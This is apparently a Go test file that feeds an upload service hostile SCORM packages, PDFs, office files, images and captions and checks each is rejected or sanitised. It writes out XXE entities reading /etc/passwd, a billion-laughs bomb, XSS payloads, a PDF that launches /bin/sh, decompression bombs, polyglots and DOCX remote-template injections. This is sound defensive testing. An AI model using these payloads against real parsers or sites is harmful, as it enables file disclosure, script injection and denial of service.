package apptest_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"strings"
	"testing"
	"unicode/utf16"
)

// websites are what browsers run: kept, and never opened on our side or theirs.
// #12 to #19.
func websites() []hostile {
	manifest := func(xml string) func(*testing.T) []byte {
		return packed(map[string]string{"imsmanifest.xml": xml, "index.html": script})
	}
	row := func(number, what, file, want string, data func(*testing.T) []byte) hostile {
		return hostile{number: number, what: what, file: file, data: data, want: want}
	}
	return []hostile{
		row("#12", "SCORM: an entity from a file", "scorm.zip", "failed archive.unsafe", manifest(`<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><manifest>&x;</manifest>`)),
		row("#13", "SCORM: a billion laughs", "scorm.zip", "failed archive.unsafe", manifest(laughs())),
		row("#14", "SCORM: a manifest of 50 MB", "scorm.zip", "failed archive.too-large", manifest("<manifest>"+strings.Repeat("<resource href='javascript:alert(1)'/>", 1_400_000)+"</manifest>")),
		row("#14", "SCORM: a manifest that leads to a script", "scorm.zip", "failed package.outside", manifest("<manifest><resources><resource href='javascript:alert(1)'/></resources></manifest>")),
		row("#14", "SCORM: a manifest that leads to another site", "scorm.zip", "failed package.outside", manifest("<manifest><resources><resource href='http://192.0.2.1/x'/></resources></manifest>")),
		row("#15", "SCORM: a page that reads cookies", "scorm.zip", "ready ", packed(map[string]string{"imsmanifest.xml": "<manifest/>", "index.html": "<script>parent.document.cookie</script>"})),
		row("#16", "a page that calls the API", "cours.html", "ready ", plain("<!doctype html><script>fetch('/api/v1/me',{credentials:'include'})</script>")),
		row("#17", "a page that posts a score", "cours.xhtml", "ready ", plain(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>top.postMessage({score:100},'*')</script></html>`)),
		row("#18", "an SVG with a script", "plan.svg", "kept file.drawing", plain(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)),
		row("#19", "HTML called PNG", "plan.png", "kept file.not-yet", plain("<!doctype html>"+script)),
	}
}

const script = "<script>alert(document.domain)</script>"

// laughs is XML (1.0, section 4.2) whose entities double thirty times.
func laughs() string {
	var b strings.Builder
	b.WriteString(`<!DOCTYPE m [<!ENTITY l0 "ha">`)
	for i := range 30 {
		fmt.Fprintf(&b, `<!ENTITY l%d "&l%d;&l%d;">`, i+1, i, i)
	}
	b.WriteString("]><manifest>&l30;</manifest>")
	return b.String()
}

// packed is a ZIP of texts.
func packed(files map[string]string) func(*testing.T) []byte {
	return func(t *testing.T) []byte {
		return zipped(t, func(z *zip.Writer) error {
			for name, content := range files {
				w, err := z.Create(name)
				if err == nil {
					_, err = w.Write([]byte(content))
				}
				if err != nil {
					return err
				}
			}
			return nil
		})
	}
}

// documents are PDF and what calls itself so, and office files. #20 to #22 and
// #32.
func documents() []hostile {
	office := func(what, file, part, xml string) hostile {
		return hostile{number: "#32", what: what, file: file, want: "kept file.not-yet", data: packed(map[string]string{"[Content_Types].xml": "<Types/>", part: xml})}
	}
	return []hostile{
		{number: "#20", what: "PDF with JavaScript and a launch action", file: "cours.pdf", want: "ready ", memory: pages, data: active, check: noScript},
		{number: "#21", what: "PDF of 100,000 pages", file: "cours.pdf", want: "failed pdf.too-many-pages", memory: pages, data: func(*testing.T) []byte { return tree(100_000) }},
		{number: "#21", what: "PDF that says it has two million pages", file: "cours.pdf", want: "ready ", memory: pages, check: onePage, data: func(*testing.T) []byte {
			return bytes.Replace(document(0, "Une page"), []byte("/Count 1"), []byte("/Count 2000000"), 1)
		}},
		{number: "#21", what: "PDF that blows up", file: "cours.pdf", want: "failed pdf.damaged", memory: pages, data: blowing},
		{number: "#22", what: "GIF that is a script", file: "logo.gif", want: "failed image.damaged", memory: pictures, data: plain("GIF89a/*\x00\x00\x00\x00\x00*/=1;alert(1)//;")},
		{number: "#22", what: "HTML that is a PDF as well", file: "cours.pdf", want: "failed pdf.damaged", memory: pages, data: plain("<html>" + script + "%PDF-1.7")},
		{number: "#22", what: "HTML called PDF", file: "cours.pdf", want: "kept file.not-yet", data: plain("<html>" + script)},
		{number: "#22", what: "program called PDF", file: "cours.pdf", want: "kept file.program", data: plain("\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 200))},
		office("DOCX with a template elsewhere", "cours.docx", "word/_rels/settings.xml.rels", `<Relationships><Relationship Type="attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>`),
		office("DOCX with a picture of the server", "cours.docx", "word/_rels/document.xml.rels", `<Relationships><Relationship Target="file:///etc/passwd" TargetMode="External"/></Relationships>`),
		office("DOCM with a macro", "cours.docm", "word/vbaProject.bin", "Sub AutoOpen()"),
		{number: "#32", what: "ODS with data from elsewhere", file: "notes.ods", want: "kept file.archive", data: packed(map[string]string{ // it does not say what it is
			"[Content_Types].xml": "<Types/>", "content.xml": `<table:table-source xlink:href="file:///etc/passwd"/>`,
		})},
	}
}

// active is a PDF (ISO 32000-1, 12.6) that runs a script and starts a program
// when it is opened.
func active(*testing.T) []byte {
	return bytes.Replace(document(0, "Une page"), []byte("/Type /Catalog"),
		[]byte("/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /Launch /F (/bin/sh) >> >>"), 1)
}

// noScript: what is shown of a document is its pages' images and their words.
func noScript(t *testing.T, h hearing) {
	if h.viewer.Pages == nil || h.viewer.Pages.Count != 1 || len(h.viewer.Pages.Images) != 1 {
		t.Fatalf("the viewer has %s", h.raw)
	}
	if bytes.Contains(h.raw, []byte("app.alert")) || bytes.Contains(h.raw, []byte("/bin/sh")) {
		t.Errorf("the viewer is given the actions: %s", h.raw)
	}
}

// onePage: pages are counted, not believed.
func onePage(t *testing.T, h hearing) {
	if h.viewer.Pages == nil || h.viewer.Pages.Count != 1 {
		t.Errorf("the viewer has %s", h.raw)
	}
}

// tree is a PDF of so many pages, each the same.
func tree(n int) []byte {
	one := document(0, "Une page")
	one = bytes.Replace(one, []byte("/Kids [ 4 0 R ] /Count 1"), fmt.Appendf(nil, "/Kids [ %s ] /Count %d", strings.Repeat("4 0 R ", n), n), 1)
	return one
}

// blowing is a PDF whose only page inflates to a gigabyte.
func blowing(t *testing.T) []byte {
	var b bytes.Buffer
	outer := zlib.NewWriter(&b)
	inner := zlib.NewWriter(outer)
	for range 1 << 10 {
		if _, err := inner.Write(make([]byte, 1<<20)); err != nil {
			t.Fatal(err)
		}
	}
	_, _ = inner.Close(), outer.Close() // into memory
	old := "<< /Length 39 >>\nstream\nBT /F1 18 Tf 40 120 Td (Une page) Tj ET\n"
	made := document(0, "Une page")
	if !bytes.Contains(made, []byte(old)) {
		t.Fatalf("the page is written otherwise: %s", made)
	}
	return bytes.Replace(made, []byte(old), fmt.Appendf(nil, "<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\n", b.Len(), b.Bytes()), 1)
}

// pixels are pictures larger than they look. #23 and #24.
func pixels() []hostile {
	return []hostile{
		{number: "#23", what: "PNG of 60,000 × 60,000 pixels", file: "plan.png", want: "failed image.too-large", data: func(*testing.T) []byte { return vast(60_000, 60_000) }},
		{number: "#23", what: "PNG of 20,000 × 20,000 real pixels", file: "plan.png", want: "failed image.too-large", data: flood},
		{number: "#24", what: "TIFF with a strip of a gigabyte", file: "plan.tiff", want: "failed image.damaged|image.too-large|file.too-demanding", memory: pictures, data: strip},
		{number: "#24", what: "GIF of 10,000 pictures", file: "plan.gif", want: "ready ", memory: pictures, data: animated},
	}
}

// vast is a PNG (RFC 2083) that says it is so large, and has no pixels.
func vast(width, height uint32) []byte {
	var b bytes.Buffer
	chunk := func(kind string, data []byte) {
		_ = binary.Write(&b, binary.BigEndian, uint32(len(data))) // into memory
		b.WriteString(kind)
		b.Write(data)
		_ = binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(kind), data...)))
	}
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk("IHDR", append(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height), 8, 2, 0, 0, 0))
	chunk("IDAT", []byte{0x78, 0x9c, 3, 0, 0, 0, 0, 1})
	chunk("IEND", nil)
	return b.Bytes()
}

// strip is a TIFF (6.0, section 2) of 32,768 × 32,768 grey pixels in one strip,
// of which hardly any are there.
func strip(*testing.T) []byte {
	const side = 32_768
	le := binary.LittleEndian
	b := []byte("II*\x00\x08\x00\x00\x00")
	entries := [][3]uint32{ // tag, type, value
		{256, 4, side}, {257, 4, side}, {258, 3, 8}, {259, 3, 1}, {262, 3, 1}, {273, 4, 8 + 2 + 9*12 + 4}, {277, 3, 1}, {278, 4, side}, {279, 4, side * side},
	}
	b = le.AppendUint16(b, uint16(len(entries)))
	for _, e := range entries {
		b = le.AppendUint32(le.AppendUint32(le.AppendUint16(le.AppendUint16(b, uint16(e[0])), uint16(e[1])), 1), e[2])
	}
	b = le.AppendUint32(b, 0)
	return append(b, make([]byte, 4096)...)
}

func animated(t *testing.T) []byte {
	var g gif.GIF
	picture := image.NewPaletted(image.Rect(0, 0, 64, 64), color.Palette{color.Black, color.White})
	for range 10_000 {
		g.Image, g.Delay = append(g.Image, picture), append(g.Delay, 1)
	}
	var b bytes.Buffer
	if err := gif.EncodeAll(&b, &g); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// captions are what is said in no film. #33 to #35.
func captions() []hostile {
	row := func(number, what, file, data, want string) hostile {
		return hostile{number: number, what: what, file: file, data: plain(data), want: want}
	}
	return []hostile{
		row("#33", "a cue with markup", "seul.vtt", "WEBVTT\n\n00:01.000 --> 00:02.000\n<img src=x onerror=alert(1)>Bonjour<script>alert(2)</script>\n", "ready "),
		row("#34", "a cue of 10 MB", "seul.vtt", "WEBVTT\n\n00:01.000 --> 00:02.000\n"+strings.Repeat("x", 10<<20), "failed captions.too-large"),
		row("#34", "a million cues", "seul.vtt", "WEBVTT\n\n"+strings.Repeat("00:01.000 --> 00:02.000\nx\n\n", 1_000_000), "failed captions.too-large"),
		row("#34", "30,000 short cues", "seul.vtt", "WEBVTT\n\n"+strings.Repeat("00:01.000 --> 00:02.000\nx\n\n", 30_000), "failed captions.too-large"),
		row("#35", "SRT in UTF-16", "seul.srt", wide("1\r\n00:00:01,000 --> 00:00:02,000\r\nفتيل\r\n"), "ready "),
		row("#35", "SRT with zeros", "seul.srt", "1\r\n00:00:01,000 --> 00:00:02,000\r\nBon\x00jour\r\n", "ready "),
	}
}

// wide is UTF-16 with its mark.
func wide(s string) string {
	b := []byte("\xff\xfe")
	for _, unit := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, unit)
	}
	return string(b)
}
